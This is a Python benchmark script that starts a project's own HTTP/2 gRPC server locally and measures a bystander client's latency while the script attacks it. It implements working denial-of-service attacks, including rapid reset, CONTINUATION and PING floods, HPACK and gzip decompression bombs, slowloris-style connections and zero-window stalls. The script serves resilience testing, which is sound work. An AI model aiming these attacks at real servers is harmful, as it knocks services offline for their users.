#!/usr/bin/env python3
"""What a well-behaved client notices of an attack on its server: the server on one core, both clients on the other.

The bystander makes calls at a fifth of what the server can do, on a connection of its own, first alone, then while the
attack goes on at a stated rate. Prints a Markdown table: attack, rate, the bystander's p99 alone and under attack, calls lost.

  Benchmarks/attacks.py [ATTACK...]      Needs hpack (Tests/Interop/requirements.txt). Environment: DURATION (seconds each
                                         measurement takes, default 6: all of them take some 5 minutes), BENCH_SERVER and CLIENT
                                         (programs built already)

Exits with 1 if a call was lost, or a p99 is above twice that without the attack and above FLOOR_MS (default 2): below that it
is the scheduler of a machine with two cores that is measured.
"""

import contextlib
import gzip
import json
import multiprocessing
import os
import pathlib
import signal
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time
import types

ROOT = pathlib.Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "Tests" / "Interop"))

import raw_http2 as raw  # noqa: E402
from raw_http2 import (  # noqa: E402
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, RawClient, frame, message)

DURATION = float(os.environ.get("DURATION", 6))
FLOOR_MS = float(os.environ.get("FLOOR_MS", 2))
METHOD = "loyalty.v1.Bench/Accrue"
REQUEST = json.dumps({
    "memberId": "M-1001", "partnerId": "cathay-air", "amountMinor": "1280000", "currency": "CNY",
    "idempotencyKey": "5f1d0a52-3c1d", "occurredAt": "1700000000", "tags": ["flight", "summer"]})


class Attacker(RawClient):
    """A connection that calls the benchmark's method, without a certificate."""

    def __init__(self, server, **options):
        super().__init__(server, name=None, **options)

    def fields(self, **changes):
        changes.setdefault("changed", {})[":path"] = f"/{METHOD}"
        return super().fields(**changes)


# An attack is a function that yields after each piece of its work; each piece counts for so many units of the stated rate.


def connections_in_turn(server, pieces):
    """Sends pieces on a connection until it is closed, then on a new one."""
    while True:
        with contextlib.suppress(OSError, ssl.SSLError), Attacker(server) as attacker:
            attacker.socket.settimeout(5)
            for piece in pieces(attacker):
                yield
                if not attacker.send(piece):
                    break


def rapid_reset(server):
    def pieces(attacker):
        for first in range(1, 200_000, 20):
            yield b"".join(
                attacker.call(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                for stream in range(first, first + 20, 2))
    return connections_in_turn(server, pieces)


def made_you_reset(server):
    def pieces(attacker):
        for first in range(1, 200_000, 20):
            yield b"".join(
                attacker.head(stream) + frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")
                for stream in range(first, first + 20, 2))
    return connections_in_turn(server, pieces)


def flood(piece, before=lambda attacker: b""):
    def attack(server):
        def pieces(attacker):
            yield before(attacker)
            while True:
                yield piece * 10
        return connections_in_turn(server, pieces)
    return attack


def continuation_flood(server):
    def pieces(attacker):
        yield attacker.head(1, flags=0)
        filler = attacker.encoder.encode([("x-filler", "a" * 200)])
        while True:
            yield frame(CONTINUATION, 0, 1, filler) * 10
    return connections_in_turn(server, pieces)


def hpack_bomb(server):
    def pieces(attacker):
        large = attacker.encoder.encode(attacker.fields() + [("x-bomb", "b" * 3_900)])
        yield (frame(HEADERS, 0, 1, large) + frame(CONTINUATION, END_HEADERS, 1, b"\xbe" * 12_000)
               + frame(DATA, END_STREAM, 1, message(b"")))
        for stream in range(3, 2_000, 2):
            block = attacker.encoder.encode(attacker.fields())
            yield frame(HEADERS, END_HEADERS, stream, block + b"\xbe" * 10_000) + frame(
                DATA, END_STREAM, stream, message(b""))
    return connections_in_turn(server, pieces)


def tiny_indexed_fields(server):
    def pieces(attacker):
        attacker.encoder.encode(attacker.fields() + [("x", "y")])
        yield attacker.head(1, attacker.fields() + [("x", "y")]) + frame(DATA, END_STREAM, 1, message(b""))
        for stream in range(3, 2_000, 2):
            block = attacker.encoder.encode(attacker.fields())
            yield frame(HEADERS, END_HEADERS, stream, block + b"\xbe" * 10_000) + frame(
                DATA, END_STREAM, stream, message(b""))
    return connections_in_turn(server, pieces)


def compressed_bomb(server):
    body = message(gzip.compress(b"\0" * (32 << 20)), compressed=1)
    def pieces(attacker):
        for stream in range(1, 2_000, 2):
            yield (attacker.head(stream, extra=[("grpc-encoding", "gzip")])
                   + b"".join(frame(DATA, 0, stream, body[at:at + 16_384]) for at in range(0, len(body), 16_384))
                   + frame(DATA, END_STREAM, stream)
                   + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 16)))
    return connections_in_turn(server, pieces)


def length_lies(server):
    def pieces(attacker):
        for first in range(1, 200_000, 20):
            yield b"".join(
                attacker.head(stream) + frame(DATA, END_STREAM, stream, message(b"", length=0xFFFFFFFF))
                for stream in range(first, first + 20, 2))
    return connections_in_turn(server, pieces)


def held_open(server, begin, most):
    """Connections that begin something and say no more; the oldest is let go where there are too many."""
    held = []
    while True:
        with contextlib.suppress(OSError, ssl.SSLError):
            held.append(begin(server))
        if len(held) > most:
            held.pop(0).close()
        yield


def unfinished_handshakes(server):
    def begin(server):
        attacker = raw.tcp_socket(server)
        attacker.sendall(b"\x16\x03\x01\x02\x00\x01")
        return attacker
    return held_open(server, begin, 3_000)


def handshakes(server):
    return held_open(server, lambda server: raw.tls_socket(server, None), 0)


def idle_connections(server):
    return held_open(server, lambda server: Attacker(server).socket, 2_000)


def slow_headers(server):
    def begin(server):
        attacker = Attacker(server)
        attacker.send(attacker.head(1, flags=0))
        return attacker.socket
    return held_open(server, begin, 1_000)


def slow_bodies(server):
    def begin(server):
        attacker = Attacker(server)
        attacker.send(*[attacker.head(stream) + frame(DATA, 0, stream, b"\0") for stream in range(1, 200, 2)])
        return attacker.socket
    return held_open(server, begin, 500)


def zero_windows(server):
    def begin(server):
        attacker = Attacker(server, settings=struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
        attacker.send(*[attacker.call(stream) for stream in range(1, 250, 2)])
        return attacker.socket
    return held_open(server, begin, 500)


def never_reads(server):
    def begin(server):
        attacker = Attacker(server, settings=struct.pack(">HI", INITIAL_WINDOW_SIZE, 0x7FFFFFFF))
        attacker.socket.settimeout(0.2)
        with contextlib.suppress(OSError):
            for first in range(1, 4_001, 200):
                if not attacker.send(*[attacker.call(stream) for stream in range(first, first + 200, 2)]):
                    break
        return attacker.socket
    return held_open(server, begin, 200)


def open_stream(attacker):
    return attacker.head(1)


# name: (attack, units a piece, unit, units a second)
ATTACKS = {
    "rapid reset": (rapid_reset, 10, "streams", 2_000),
    "resets that the server is made to send": (made_you_reset, 10, "streams", 2_000),
    "CONTINUATION flood": (continuation_flood, 10, "frames", 2_000),
    "SETTINGS flood": (flood(frame(SETTINGS)), 10, "frames", 5_000),
    "PING flood": (flood(frame(PING, payload=b"12345678")), 10, "frames", 5_000),
    "empty DATA flood": (flood(frame(DATA, 0, 1), open_stream), 10, "frames", 5_000),
    "HPACK bomb": (hpack_bomb, 1, "header blocks", 200),
    "tiny indexed fields": (tiny_indexed_fields, 1, "header blocks", 200),
    "compressed bomb (32 MiB)": (compressed_bomb, 1, "messages", 20),
    "message length lies": (length_lies, 10, "calls", 2_000),
    "handshakes never finished": (unfinished_handshakes, 1, "connections", 300),
    "handshakes and nothing else": (handshakes, 1, "connections", 100),
    "idle connections": (idle_connections, 1, "connections", 100),
    "slow headers": (slow_headers, 1, "connections", 50),
    "slow bodies": (slow_bodies, 1, "connections of 100 calls", 20),
    "windows of zero": (zero_windows, 1, "connections of 125 calls", 10),
    "a reader that never reads": (never_reads, 1, "connections of 2,000 calls", 5),
}


def attacking(name, server, done):
    """Runs in a process of its own until it is ended; tells how many units it got to."""
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    os.nice(5)
    attack, units, _, rate = ATTACKS[name]
    begun, pieces = time.monotonic(), 0
    for _ in attack(server):
        pieces += 1
        done.value = pieces * units
        pause = begun + pieces * units / rate - time.monotonic()
        if pause > 0:
            time.sleep(pause)


def load(client, server, *options):
    """The report of rpc-client bench."""
    result = subprocess.run(
        ["taskset", "-c", "1", client, "bench", METHOD, "-d", REQUEST, "--proto", "bench.proto", "-I",
         ROOT / "Benchmarks" / "Sources" / "BenchSchema", "--address", server.address, "--cacert", server.certs / "ca.pem",
         "--format", "json", *map(str, options)], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr + result.stdout
    return json.loads(result.stdout)


def built(variable, package, product):
    if variable in os.environ:
        return os.environ[variable]
    command = ["swift", "build", "--package-path", str(package), "-c", "release", "--product", product]
    subprocess.run(command, check=True, stdout=sys.stderr)
    folder = subprocess.run([*command, "--show-bin-path"], check=True, capture_output=True, text=True).stdout.strip()
    return f"{folder}/{product}"


def main():
    names = sys.argv[1:] or list(ATTACKS)
    for name in names:
        if name not in ATTACKS:
            sys.exit(f"no attack is called {name!r}; known are: {', '.join(ATTACKS)}")
    program = built("BENCH_SERVER", ROOT / "Benchmarks", "bench-server")
    client = built("CLIENT", ROOT, "rpc-client")
    work = pathlib.Path(tempfile.mkdtemp())
    certs = work / "certs"
    subprocess.run([ROOT / "certs" / "make-dev-certs.sh", certs], check=True, stdout=subprocess.DEVNULL)
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    process = subprocess.Popen(
        ["taskset", "-c", "0", program, "unary", str(port), certs / "server.pem", certs / "server.key"],
        stdout=subprocess.DEVNULL, stderr=open(work / "log", "wb"))
    server = types.SimpleNamespace(address=f"127.0.0.1:{port}", certs=certs)
    os.sched_setaffinity(0, {1})
    failed = []
    try:
        subprocess.run(
            [client, "wait", "--for", "reachable", "--address", server.address, "--cacert", certs / "ca.pem"], check=True)
        load(client, server, "--duration", "2s", "-m", "32")
        capacity = load(client, server, "--duration", "3s", "-m", "32")["rate"]
        rate = int(capacity / 5)
        print(f"The bystander makes {rate} calls a second, a fifth of {capacity:.0f}.\n")
        print("| attack | rate, a second | reached | p99 alone, ms | p99 under attack, ms | ratio | calls lost |")
        print("|---|---|---|---|---|---|---|")
        calm = ("--rate", rate, "--duration", f"{DURATION:g}s", "--warmup", "1s", "-m", "64")
        for name in names:
            alone = load(client, server, *calm)
            done = multiprocessing.Value("d", 0)
            attacker = multiprocessing.Process(target=attacking, args=(name, server, done), daemon=True)
            begun = time.monotonic()
            attacker.start()
            under = load(client, server, *calm)
            reached = done.value / (time.monotonic() - begun)
            attacker.kill()
            attacker.join()
            # What the attacker held is let go of before the next calm is measured.
            time.sleep(1)
            assert process.poll() is None, f"the server ended under {name}: {(work / 'log').read_text()[-2_000:]}"
            before, after = p99(alone), p99(under)
            lost = errors(under)
            if lost > 0 or (after > 2 * before and after > FLOOR_MS):
                failed.append(name)
            _, _, unit, wanted = ATTACKS[name]
            print(
                f"| {name} | {wanted} {unit} | {reached:.0f} | {before:.2f} | {after:.2f} | {after / before:.2f} | {lost} |",
                flush=True)
    finally:
        process.terminate()
        process.wait()
        subprocess.run(["rm", "-rf", work])
    print(f"\nnoticed: {', '.join(failed) or 'none'} (a call lost, or a p99 above twice that without and above {FLOOR_MS:g} ms)")
    sys.exit(bool(failed))


def p99(report):
    """Milliseconds."""
    return report["latencyMilliseconds"]["p99"]


def errors(report):
    return report["errors"]


if __name__ == "__main__":
    main()
